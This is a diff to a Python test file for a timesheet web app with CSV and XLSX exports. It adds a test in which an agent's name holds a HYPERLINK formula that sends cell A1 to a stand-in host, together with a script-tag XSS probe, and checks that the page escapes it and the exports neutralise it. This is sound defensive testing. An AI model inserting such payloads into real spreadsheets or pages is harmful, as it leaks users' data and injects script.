@@ -23,6 +23,7 @@ from app.workday.machine import Moment as M
 from app.workday.models import PauseReason, StatePeriod
 from tests import factories
 from tests.conftest import csrf_token
+from tests.integration.test_injection_flow import assert_inert_cell, assert_inert_workbook
 
 ROME = ZoneInfo("Europe/Rome")
 DAY = date(2026, 3, 3)  # a Tuesday, winter time
@@ -219,3 +220,45 @@ def test_one_agent_s_page(client, world):
     assert 'data-testid="signed-in">11:00<' in page
     assert 'data-testid="talk">0:09<' in page
     assert "Pausa" in page and "Qualificato" in page
+
+
+HOSTILE = '=HYPERLINK("http://x.example/?"&A1,"ok")<script>alert(1)</script>'
+
+
+def test_a_hostile_name_is_shown_and_filed_inert(client, session, world):
+    world["anna"].full_name = HOSTILE
+    world["anna"].team.name = "+Call center -1"
+    session.flush()
+    sign_in(client, "staff")
+    page = text(client.get("/timesheets/", query_string=SPAN))
+    assert "<script>alert(1)" not in page and "&lt;script&gt;alert(1)" in page
+    rows = csv_rows(client.get("/timesheets/timesheet.csv", query_string=SPAN))
+    assert any(r[1] == "'" + HOSTILE for r in rows) and any(
+        r[0] == "'+Call center -1" for r in rows
+    )
+    for row in rows:
+        for cell in row:
+            assert_inert_cell(cell)
+    book = load_workbook(
+        io.BytesIO(client.get("/timesheets/timesheet.xlsx", query_string=SPAN).data)
+    )
+    assert_inert_workbook(book)
+    assert any(c.value == HOSTILE for row in book.active.iter_rows() for c in row)
+
+
+def test_a_day_before_the_log_has_calls_but_no_hourly_figure(client, session, world):
+    before = DAY - timedelta(days=1)
+    entry = factories.queue_entry(session, factories.campaign(session))
+    factories.call(session, entry, world["anna"], "busy", rome(before, 10), rome(before, 10, 2))
+    sign_in(client, "staff")
+    span = {"start": before.isoformat(), "end": DAY.isoformat()}
+    rows = csv_rows(client.get("/timesheets/timesheet.csv", query_string=span))
+    col = {name: i for i, name in enumerate(rows[0])}
+    old, logged = (r for r in rows if r[1] == "Anna Alfa")
+    assert (old[col["Giorno"]], old[col["Chiamate"]], old[col["Connesso"]]) == (
+        before.isoformat(), "1", "'0:00")  # fmt: skip
+    assert old[col["Chiamate per ora connessa"]] == ""
+    total = next(r for r in rows if r[0] == "Call center Milano" and r[1] == "Totale")
+    # Two calls in all; the hourly figure counts the logged day's one call over 10 hours.
+    assert total[col["Chiamate"]] == "2" and total[col["Chiamate per ora connessa"]] == "0,10"
+    assert logged[col["Chiamate per ora connessa"]] == "0,10"
